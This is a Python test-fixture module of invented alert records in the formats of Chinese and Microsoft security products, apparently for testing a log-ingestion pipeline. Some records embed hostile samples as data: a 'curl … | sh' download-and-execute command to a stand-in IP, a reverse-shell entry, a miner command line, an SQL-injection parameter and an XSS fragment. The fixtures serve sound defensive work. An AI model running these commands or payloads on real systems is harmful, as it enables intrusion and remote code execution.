"""One record of each Chinese source, in the shape of its public documentation; every value is invented."""

import base64
import gzip
import json
from typing import Any

from . import cn_samples_hosts as hosts

_MACHINE = {
    "WanIP": "198.51.100.15",
    "PrivateIP": "10.0.3.15",
    "NetworkType": 1,
    "NetworkName": "vpc-example",
    "InstanceID": "ins-example1",
    "HostName": "pay-gateway-3",
}
_TENCENT = {"Uuid": "a1b2-example", "Quuid": "q1-example", "MachineExtraInfo": _MACHINE}
MALWARE: dict[str, Any] = {
    **_TENCENT, "HostIp": "10.0.3.15", "Alias": "支付网关 3", "FilePath": "/tmp/.x/kinsing",
    "VirusName": "Linux.Trojan.Miner", "Status": 4, "Id": 101, "Tags": [], "FileCreateTime": "2026-11-20 08:00:00",
    "FileModifierTime": "2026-11-20 08:10:00", "CreateTime": "2026-11-20 08:30:00",
    "LatestScanTime": "2026-11-20 09:30:00", "Level": 3, "CheckPlatform": "1,5", "ProcessExists": 1, "FileExists": 1,
    "MD5": "ab" * 16, "DoClean": True, "FirstDetectionMethod": 1,
}  # fmt: skip
BRUTE: dict[str, Any] = {
    **_TENCENT, "Id": 7, "MachineIp": "10.0.3.15", "MachineName": "支付网关 3", "UserName": "root",
    "SrcIp": "203.0.113.66", "Status": "SUCCESS", "Country": 1, "City": 0, "Province": 0,
    "CreateTime": "2026-11-20 08:30:00", "BanStatus": 1, "EventType": 300, "Count": 57, "IsProVersion": True,
    "Protocol": "sshd", "Port": 22, "ModifyTime": "2026-11-20 08:40:00", "InstanceId": "ins-example1", "DataStatus": 0,
    "Location": "境外", "RiskLevel": 2, "DataFrom": 0, "AttackStatusDesc": "破解成功",
}  # fmt: skip
LOGIN: dict[str, Any] = {
    **_TENCENT, "Id": 8, "MachineIp": "10.0.3.15", "MachineName": "支付网关 3", "UserName": "root",
    "SrcIp": "203.0.113.66", "Status": 2, "LoginTime": "2026-11-20 08:30:00", "RiskLevel": 0, "Location": "境外",
    "HitRule": "risk_login_2", "HitRuleName": "密码破解成功后登录",
}  # fmt: skip
COMMAND: dict[str, Any] = {
    **_TENCENT, "Id": 9, "HostIp": "10.0.3.15", "User": "root", "BashCmd": "curl http://203.0.113.9/a.sh | sh",
    "RuleId": 12, "RuleName": "下载并执行脚本", "RuleLevel": 1, "Status": 0, "CreateTime": "2026-11-20 08:30:00",
    "MachineName": "支付网关 3", "Exe": "/usr/bin/bash",
}  # fmt: skip
SHELL: dict[str, Any] = {
    **_TENCENT, "Id": 10, "Hostip": "10.0.3.15", "DstIp": "203.0.113.9", "DstPort": 4444, "ProcessName": "bash",
    "FullPath": "/usr/bin/bash", "CmdLine": "bash -i", "UserName": "www", "Status": 0, "RiskLevel": 1,
    "CreateTime": "2026-11-20 08:30:00", "MachineName": "支付网关 3",
}  # fmt: skip
PRIVILEGE: dict[str, Any] = {
    **_TENCENT, "Id": 11, "Hostip": "10.0.3.15", "ProcessName": "su", "FullPath": "/tmp/su", "CmdLine": "/tmp/su",
    "UserName": "www", "ProcFilePrivilege": "-rwsr-xr-x", "Status": 3, "CreateTime": "2026-11-20 08:30:00",
}  # fmt: skip
DNS: dict[str, Any] = {
    "Id": 12, "PolicyId": 3, "PolicyName": "矿池域名", "HostId": "q1-example", "HostName": "pay-gateway-3",
    "HostIp": "10.0.3.15", "WanIp": "198.51.100.15", "AgentId": "a1b2-example", "Domain": "pool.example.net",
    "AccessCount": 5, "HandleStatus": 0, "FirstTime": "2026-11-20 08:30:00", "LastTime": "2026-11-20 09:30:00",
    "ThreatDesc": "连接矿池", "ReferenceLink": "https://example.com/mining",
}  # fmt: skip


def tencent(name: str, *records: dict[str, Any]) -> dict[str, Any]:
    """The answer of the API with these records under that name."""
    return {"Response": {name: list(records), "TotalCount": len(records), "RequestId": "r-1"}}


HSS: dict[str, Any] = {
    "event_id": "0ab1-example", "event_class_id": "malware_0001", "event_type": 1004, "event_name": "木马",
    "severity": "High", "host_name": "pay-gateway-3", "host_id": "5c1e0000-example", "private_ip": "10.0.3.15",
    "public_ip": "198.51.100.15", "os_type": "Linux", "attack_phase": "installation", "attack_tag": "attack_success",
    "occur_time": 1795134600000, "handle_status": "unhandled", "event_count": 2, "description": "发现木马文件",
    "recommendation": "隔离文件", "resource_info": {"vm_name": "pay-gateway-3", "vm_uuid": "5c1e0000-example"},
    "process_info_list": [{"process_path": "/tmp/.x/kinsing", "process_cmdline": "/tmp/.x/kinsing -o 203.0.113.9"}],
    "user_info_list": [{"user_name": "root", "login_ip": "203.0.113.66"}],
    "file_info_list": [{"file_path": "/tmp/.x/kinsing", "file_sha256": "cd" * 32}],
    "operate_detail_list": [{"keyword": "k", "login_ip": ""}],
}  # fmt: skip
SECMASTER: dict[str, Any] = {
    "id": "b7e0-example", "type": "DATA_SOURCE", "workspace_id": "w-1", "data_object": {
        "id": "b7e0-example", "title": "ECS 对外攻击", "description": "发现对外扫描", "severity": "Fatal",
        "confidence": 80, "first_observed_time": "2026-11-20T08:30:00.000Z+0800",
        "last_observed_time": "2026-11-20T09:30:00.000Z+0800", "count": 3, "handle_status": "Open",
        "data_source": {"product_name": "hss", "product_feature": "hss"},
        "alert_type": {"category": "网络攻击", "alert_type": "对外扫描"},
        "network_list": [{"direction": "OUT", "src_ip": "10.0.3.15", "dest_ip": "203.0.113.9", "dest_port": 22}],
        "resource_list": [{"id": "5c1e0000-example", "name": "pay-gateway-3", "type": "cloudservers"}],
        "user_info": [{"user_name": "root"}], "process": [{"process_path": "/tmp/scan"}],
        "remediation": {"recommendation": "隔离主机", "url": ""},
    },
}  # fmt: skip
SAFELINE: dict[str, Any] = {
    "scheme": "http", "src_ip": "203.0.113.66", "src_port": 53008, "socket_ip": "10.0.1.1",
    "upstream_addr": "10.0.3.20", "req_start_time": 1795134600749, "host": "shop.example.com", "method": "GET",
    "query_string": "", "event_id": "32be0ce3ba6c44be9ed7e1235f9e0001", "site_uuid": "35",
    "site_url": "http://shop.example.com:8083", "req_rule_id": "m_rule/9bf31c7f", "country": "US",
    "timestamp": 1795134600, "payload": "", "location": "urlpath", "rule_id": "m_rule/9bf31c7f",
    "timestamp_human": "2026-11-20 08:30:00", "module": "m_rule", "reason": "", "dest_port": 8083,
    "dest_ip": "10.0.3.20", "urlpath": "/webshell.php", "protocol": "http", "attack_type": "backdoor",
    "risk_level": "high", "action": "deny", "req_block_reason": "web",
}  # fmt: skip
SKYEYE: dict[str, Any] = {
    "_origin": {"uri": "/download/a.bat", "vuln_desc": "发现疑似脚本文件下载", "solution": "确认是否合规"},
    "alarm_sip": "10.0.3.15", "attack_sip": "203.0.113.66", "alarm_id": "20261120_example", "attack_type": "文件下载",
    "first_access_time": "2026-11-20T08:30:00.000+0800", "access_time": "2026-11-20T09:30:00.000+0800",
    "hazard_level": 4, "hazard_rating": "中危", "host_state": "攻击成功", "ioc": "268572087-疑似下载脚本文件",
    "is_white": 0, "repeat_count": 1, "rule_id": "0x100215b7", "super_type": "攻击利用", "type": "文件下载",
    "vuln_type": "疑似下载脚本文件", "att_ck": "初始访问:TA0001|利用面向公众的应用程序:T1190", "host": "dl.example.com",
    "file_name": "a.bat", "file_md5": "ab" * 16, "sip": "10.0.3.15", "dip": "203.0.113.66", "confidence": "高",
    "skyeye_type": "webids-webattack_dolog", "x_forwarded_for": "",
}  # fmt: skip
_REQUEST = "POST /login.php?token=Zx81 HTTP/1.1\r\nHost: shop.example.com\r\nCookie: PHPSESSID=s3cr3t-cookie; a=b\r\nAuthorization: Basic czNjcjN0OmE=\r\n"
SENSOR: dict[str, Any] = {
    "log_type": "webids-webattack_dolog", "rule_name": "SQL 注入攻击", "vuln_name": "SQL 注入攻击", "rule_id": 268567297,
    "attack_type": "SQL注入", "vuln_type": "SQL注入", "attack_type_all": "攻击利用:16000000|SQL注入:16010000",
    "detail_info": "发现 SQL 注入", "vuln_desc": "参数里有 SQL", "vuln_harm": "泄露数据", "solution": "参数化查询",
    "sip": "203.0.113.66", "sport": 51002, "dip": "10.0.3.20", "dport": 80, "attacker": "203.0.113.66", "victim": "10.0.3.20",
    "victim_type": "server", "host": "shop.example.com", "uri": "/login.php", "method": "POST",
    "parameter": "user=admin' or 1=1--&password=s3cr3t-form", "agent": "sqlmap/1.7", "referer": "", "xff": "198.51.100.9",
    "cookie": "PHPSESSID=s3cr3t-cookie", "proto": "http", "req_header": _REQUEST, "req_body": '{"passwd": "s3cr3t \\" body", "b": 1}',
    "rsp_status": 200, "rsp_header": "HTTP/1.1 200 OK\r\nSet-Cookie: sid=s3cr3t-set\r\n",
    "rsp_body": base64.b64encode(gzip.compress(b"You have an error in your SQL syntax", mtime=0)).decode(),
    "severity": 6, "confidence": 80, "attack_result": "1", "attack_flag": "true", "kill_chain": "0x02020000",
    "kill_chain_all": "入侵:0x02000000|漏洞利用:0x02020000", "att_ck_all": "初始访问:TA0001|利用面向公众的应用程序:T1190",
    "serial_num": "QbJK-example", "device_ip": "10.0.9.9", "log_from": "sensor", "uuid": "same-in-every-row",
    "@timestamp": "2026-11-20 08:30:00", "write_date": 1795134600, "dolog_count": 1,
}  # fmt: skip
IDS: dict[str, Any] = {  # of the network, without log_type; a host of ours calls out
    "rule_name": "木马外联", "attack_type": "远控木马", "attack_method": "远程", "sip": "10.0.3.15", "dip": "203.0.113.9", "victim": "203.0.113.9",
    "attacker": "10.0.3.15", "serial_num": "QbJK-example", "severity": 8, "attack_result": "2", "att_ck_all": None, "appid": 1, "packet_size": 60,
    "@timestamp": "2026-11-20 08:30:00",
}  # fmt: skip
THREAT: dict[str, Any] = {
    "threat_name": "Struts2 远程代码执行", "primary_alert_type": "Web 攻击", "secondary_alert_type": "代码执行", "threat_severity": "危急",
    "attack_result": "失败", "attack_stage": "漏洞利用", "attacker_ip": "203.0.113.66", "victim_ip": "XXX.XXX.7.82", "count": 3,
    "last_seen_time": "2026-11-20 08:30:00", "payload_content": None, "response_header": None, "response_body": None,
    "request_header": json.dumps(_REQUEST), "request_body": json.dumps('{"password":"s3cr3t-json"}'),
}  # fmt: skip
GATEWAY: dict[str, Any] = {
    "event_name": "跨站脚本攻击", "security_type": "XSS", "event_severity": "中级", "source_ip": "203.0.113.66", "source_port": "51002",
    "destination_ip": "10.0.3.20", "destination_port": "443", "action": "丢弃", "event_time": "2026-11-20 08:30:00", "host": "shop.example.com",
    "url": "/s?q=<script>", "referer": "无", "return_info": "HTTP_Host=shop.example.com;HTTP_Cookie=sid=s3cr3t-gate;HTTP_Url=/s;",
    "info": "[规则(6041--x)] FORM::{password=s3cr3t-form};HOST=shop.example.com;URL=/s;REF=;", "log_level": "无",
}  # fmt: skip
ZEEK: dict[str, Any] = {
    "ts": 1795134600.0, "uid": "CHhAvVGS1DHFjwGM9", "id.orig_h": "203.0.113.66", "id.orig_p": 51002, "id.resp_h": "10.0.3.20", "id.resp_p": 22,
    "proto": "tcp", "note": "SSH::Password_Guessing", "msg": "203.0.113.66 appears to be guessing SSH passwords", "sub": "Sampled servers: 10.0.3.20",
    "src": "203.0.113.66", "peer_descr": "sensor-1", "actions": ["Notice::ACTION_LOG"], "suppress_for": 3600.0,
}  # fmt: skip
TDP: dict[str, Any] = {
    "time": 1795134600, "timeStr": "2026-11-20T08:30:00+08:00", "direction": "in", "machine": "10.0.3.15",
    "machine_port": 9443, "external_ip": "203.0.113.66", "external_port": 53354, "attacker": "203.0.113.66",
    "victim": "10.0.3.15", "data": "shop.example.com/web-inf/web.xml", "incident_id": "0845-1795134600",
    "behave_uuid": "unix-socket-1", "net": {
        "src_ip": "203.0.113.66", "src_port": 53354, "dest_ip": "10.0.3.15", "dest_port": 9443,
        "real_src_ip": "203.0.113.66", "proto": "TCP", "type": "http",
        "http": {"method": "GET", "status": 404, "url": "/WEB-INF/web.xml"},
    },
    "threat": {
        "module": "tdps", "suuid": "DHb44f5d0001", "level": "attack", "name": "爆破敏感文件",
        "msg": "检测到爆破 URL 路径", "severity": 1, "type": "recon", "confidence": 60, "result": "failed",
        "tag": ["猜测敏感文件"], "phase": "recon",
    },
    "assets": {"id": 81, "ip": "10.0.0.0/8", "section": "服务器"},
}  # fmt: skip
XDR_ALERT: dict[str, Any] = {
    "uuId": "alert-example-1", "name": "通用 SQL 注入攻击", "severity": 70, "srcIp": ["203.0.113.66"],
    "srcPort": [12345], "dstIp": ["10.0.3.15"], "dstPort": [80], "hostIp": "10.0.3.15", "devSourceName": ["STA"],
    "threatSubTypeDesc": "SQL注入", "firstTime": 1795134600, "lastTime": 1795138200, "attackState": 2,
    "alertDealStatus": 1, "alertDealAction": "待处置", "riskTag": ["SQL注入"], "fileMd5": [], "domain": [], "url": [],
}  # fmt: skip
XDR_INCIDENT: dict[str, Any] = {
    "uuId": "incident-example-1", "name": "主机失陷", "description": "主机存在挖矿行为", "incidentSeverity": 3,
    "dealStatus": 0, "startTime": 1795134600, "endTime": 1795138200, "hostIp": "10.0.3.15",
    "threatDefineName": ["挖矿"], "riskTag": ["挖矿"], "alertIds": ["alert-example-1"],
}  # fmt: skip


def xdr(*records: dict[str, Any]) -> dict[str, Any]:
    """The answer of alerts/list or incidents/list."""
    return {
        "code": "Success",
        "message": "成功",
        "data": {"total": len(records), "page": 1, "pageSize": 10, "item": list(records)},
    }


def line(header: str, record: dict[str, Any]) -> str:
    """A line of a log that carries a record."""
    return header + json.dumps(record, ensure_ascii=False)


SENTINEL: dict[str, Any] = {
    "name": "73e01a99-example",
    "etag": "x",
    "type": "Microsoft.SecurityInsights/incidents",
    "properties": {
        "title": "Brute force attack against Azure Portal",
        "description": "Many failed sign-ins, then one that succeeded.",
        "severity": "Medium",
        "status": "New",
        "incidentNumber": 3177,
        "incidentUrl": "https://portal.azure.com/#asset/example",
        "providerName": "Azure Sentinel",
        "createdTimeUtc": "2026-11-20T00:31:00Z",
        "firstActivityTimeUtc": "2026-11-20T00:30:00Z",
        "lastActivityTimeUtc": "2026-11-20T01:30:00Z",
        "additionalData": {
            "alertsCount": 1,
            "alertProductNames": ["Azure Sentinel"],
            "tactics": ["CredentialAccess"],
            "techniques": ["T1110"],
        },
    },
}
DEFENDER: dict[str, Any] = {
    "id": "29",
    "status": "resolved",
    "incidentWebUrl": "https://security.microsoft.com/incident2/29/overview",
    "redirectIncidentId": None,
    "displayName": "Multi-stage incident on one endpoint",
    "createdDateTime": "2026-11-20T00:30:00Z",
    "lastUpdateDateTime": "2026-11-20T02:29:33.1Z",
    "classification": "truePositive",
    "determination": "malware",
    "severity": "high",
    "description": "Raspberry Robin",
    "resolvingComment": None,
    "alerts": [
        {
            "id": "da1",
            "title": "A WMI event filter was bound",
            "productName": "Microsoft Defender for Endpoint",
            "mitreTechniques": ["T1546.003"],
            "lastActivityDateTime": "2026-11-20T01:30:00Z",
            "evidence": [{"deviceDnsName": "web-01"}, {"ipAddress": "203.0.113.85"}],
        }
    ],
}

# Per source: a whole file as it comes.
FILES: dict[str, tuple[str, Any]] = {
    "tencent malware": ("tencent_cwp", tencent("MalWareList", MALWARE)),
    "tencent brute": ("tencent_cwp", tencent("BruteAttackList", BRUTE)),
    "tencent login": ("tencent_cwp", tencent("HostLoginList", LOGIN)),
    "tencent command": ("tencent_cwp", tencent("List", COMMAND)),
    "tencent shell": ("tencent_cwp", tencent("List", SHELL)),
    "tencent privilege": ("tencent_cwp", tencent("List", PRIVILEGE)),
    "tencent dns": ("tencent_cwp", tencent("List", DNS)),
    "huawei_hss": ("huawei_hss", {"total_num": 1, "data_list": [HSS]}),
    "huawei_secmaster": ("huawei_secmaster", {"code": "0", "total": 1, "success": True, "data": [SECMASTER]}),
    "safeline": (
        "safeline",
        line("<30>1 2026-11-20T08:30:01+08:00 waf-1 /matio/mario 1 safeline_event - ", SAFELINE),
    ),
    "skyeye": ("skyeye", line("<12>Nov 20 08:30:01 skyeye: 2026-11-20|!10.0.9.9|!alarm|!", SKYEYE)),
    "sensor": ("skyeye", [SENSOR]),
    "sensor ids": ("skyeye", [IDS]),
    "threat": ("cn_alerts", [THREAT]),
    "gateway": ("cn_alerts", [GATEWAY]),
    "zeek": ("zeek", json.dumps(ZEEK)),
    "sentinel": ("microsoft_incidents", {"value": [SENTINEL]}),
    "playbook": ("microsoft_incidents", {"workspaceId": "5b1f", "object": SENTINEL}),
    "defender": ("microsoft_incidents", {"value": [DEFENDER]}),
    "tdp": ("tdp", line("<1>2026-11-20T08:30:01+08:00 tdp-1 Threatbook[366830]: ", TDP)),
    "sangfor alert": ("sangfor_xdr", xdr(XDR_ALERT)),
    "sangfor incident": ("sangfor_xdr", xdr(XDR_INCIDENT)),
    "sip alarm": ("sangfor_sip", line(hosts.SIP_HEADER.format("alarm"), hosts.SIP_ALARM)),
    "sip event": ("sangfor_sip", line(hosts.SIP_HEADER.format("secevent"), hosts.SIP_EVENT)),
    "sip answer": ("sangfor_sip", {"code": 0, "message": "ok", "data": [hosts.SIP_EVENT]}),
    "qingteng brute": ("qingteng", hosts.rows(hosts.QT_BRUTE)),
    "qingteng login": ("qingteng", hosts.rows(hosts.QT_LOGIN)),
    "qingteng webshell": ("qingteng", hosts.rows(hosts.QT_WEBSHELL)),
    "qingteng shell": ("qingteng", hosts.rows(hosts.QT_SHELL)),
    "qingteng rights": ("qingteng", hosts.rows(hosts.QT_RIGHTS)),
    "qingteng backdoor": ("qingteng", hosts.rows(hosts.QT_BACKDOOR)),
    "qingteng windows": ("qingteng", hosts.rows(hosts.QT_WINDOWS)),
    "qingteng honeypot": ("qingteng", hosts.rows(hosts.QT_HONEYPOT)),
    "qingteng command": ("qingteng", hosts.rows(hosts.QT_COMMAND)),
    "qingteng syslog": ("qingteng", hosts.QT_LINE),
}
